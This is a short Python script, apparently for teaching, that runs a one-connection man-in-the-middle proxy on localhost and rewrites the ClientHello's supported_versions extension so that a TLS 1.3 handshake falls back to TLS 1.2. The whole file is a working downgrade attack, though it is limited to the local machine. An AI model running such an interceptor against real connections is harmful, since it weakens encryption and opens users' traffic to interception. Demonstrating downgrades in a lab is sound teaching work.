#!/usr/bin/env python3
"""A man in the middle who prefers TLS 1.2. He hands everything on as it comes, but spoils the one extension of the
ClientHello that says "I know TLS 1.3". For lessons: on this machine only, one connection, then he is gone.

    downgrade.py PORT SERVER_PORT
"""
import socket
import sys
import threading


def without_tls13(hello):
    """RFC 8446 section 4.1.2, walked from the record header to the extensions."""
    hello = bytearray(hello)
    at = 5 + 4 + 2 + 32  # record header, handshake header, legacy_version, random
    at += 1 + hello[at]  # legacy_session_id
    at += 2 + int.from_bytes(hello[at:at + 2], "big")  # cipher_suites
    at += 1 + hello[at]  # legacy_compression_methods
    at += 2  # the length of all extensions
    while at < len(hello):
        if hello[at:at + 2] == b"\x00\x2b":  # supported_versions becomes an extension that nobody knows
            hello[at:at + 2] = b"\xfa\xfa"
        at += 4 + int.from_bytes(hello[at + 2:at + 4], "big")
    return bytes(hello)


def hand_on(source, sink):
    while octets := source.recv(65536):
        sink.sendall(octets)
    sink.shutdown(socket.SHUT_WR)


port, server_port = map(int, sys.argv[1:3])
with socket.create_server(("127.0.0.1", port)) as listener:
    listener.settimeout(60)  # seconds
    print("Listening", flush=True)
    client, _ = listener.accept()
with client, socket.create_connection(("127.0.0.1", server_port)) as server:
    header = client.recv(5, socket.MSG_WAITALL)
    body = client.recv(int.from_bytes(header[3:], "big"), socket.MSG_WAITALL)
    server.sendall(without_tls13(header + body))
    back = threading.Thread(target=hand_on, args=(server, client))
    back.start()
    hand_on(client, server)
    back.join()
